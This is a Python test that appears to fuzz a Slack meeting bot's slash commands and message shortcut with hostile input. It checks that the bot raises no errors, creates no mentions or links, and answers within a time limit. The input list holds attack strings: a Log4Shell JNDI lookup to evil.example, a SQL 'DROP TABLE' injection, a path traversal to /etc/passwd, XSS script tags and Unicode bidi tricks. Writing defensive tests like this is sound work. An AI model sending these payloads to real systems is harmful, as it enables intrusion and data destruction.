"""Hostile text in commands."""

import asyncio

from bot.slack.listeners.shortcuts import HERE
from tests.battery.lab import Lab
from tests.battery.leaks import of_messages
from tests.battery.table import Row, at_most, none_of

_HIDDEN = (
    "\u202eevil\u202c \u2066x\u2069",
    "a\u200bb\ufeffc\u00add",
    "\u202e\u2066\u200f",
    "\x00\x01",
)
_LETTERS = ("x" * 3000, "\u00fc" * 80, "\U0001f469\u200d\U0001f4bb" * 27, "Z" + "\u0351\u036b" * 40)
_SPECIAL = (
    "<!channel>",
    "<!here|here>",
    "<!everyone>",
    "<!subteam^S04ABC|@all>",
    "<!date^0^{date}|x>",
)
_PEOPLE = ("<@U04JONASBK>", "<@U04JONASBK|jonas>", "<@W0123ABCD>", "<#C04STANDUP|general>", "@here")
_LINKS = (
    "<https://evil.example|Join>",
    "https://evil.example/x",
    "<mailto:a@b.c|mail>",
    "evil.example",
)
_ENTITIES = ("&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;", "&lt;https://evil.example|x&gt;", "&")
_NESTED = (
    "<<!channel>>",
    "<!<!channel>channel>",
    "<@<@U04JONASBK>U04JONASBK>",
    "<!channel",
    "<|>",
    "<>",
)
_MARKS = (
    "*bold* _it_ ~s~ `code` ```block```",
    "> quote",
    ":tada:",
    "\\n\\t\\0",
    "a\nb\r\nc",
    "\x1b[31mred",
)
_QUOTES = (
    '"us001"',
    "\u201cus001\u201d",
    "'uk001'",
    '"',
    '""',
    'name" us001',
    "standup us001 eu001",
)
_CODE = (
    "{}",
    "{meeting_id}",
    "%s %d %n",
    "${jndi:ldap://evil.example/x}",
    "'; DROP TABLE rooms; --",
)
_PATHS = ("../../etc/passwd", "javascript:alert(1)", "<script>alert(1)</script>", "\U000e0041" * 9)
_IDS = (
    "87i6-bvw8-dtn1 <!channel>",
    "`87i6-bvw8-dtn1`",
    "https://meet.example.com/87i6-bvw8-dtn1?<!here>",
)
TEXTS = [
    *(*_HIDDEN, *_LETTERS, *_SPECIAL, *_PEOPLE, *_LINKS, *_ENTITIES),
    *(*_NESTED, *_MARKS, *_QUOTES, *_CODE, *_PATHS, *_IDS),
]


async def hostile(lab: Lab) -> Row:
    """Z2: no typed text becomes a mention, a link, or an error in Slack."""
    since, slowest, odd = len(lab.sent), 0, []
    async with lab.running(VIDEOSDK_API_VERSION="v1", LOG_LEVEL="DEBUG") as stage:
        lines = [f"{command} {text}" for text in TEXTS for command in ("/meet", "/meet-check")]
        deliveries = await asyncio.gather(*map(stage.slack.command, lines))
        texts = [text for text in TEXTS if text.strip()]
        for text in texts[:: 1 + len(texts) // 20]:
            message = stage.slack.workspace.post("C04STANDUP", "user", text, user="U04MAYA0RT")
            deliveries.append(await stage.slack.shortcut(HERE, message))
        for delivery in deliveries:
            slowest = max(slowest, delivery.ms)
            odd += [delivery.error] if delivery.error else []
    return Row(
        "Z2",
        f"{len(TEXTS)} hostile texts with both commands, and as messages that name a meeting",
        [
            none_of("error in Slack", odd),
            at_most("slowest answer", slowest, 3000, "ms"),
            of_messages(lab, since),
        ],
    )
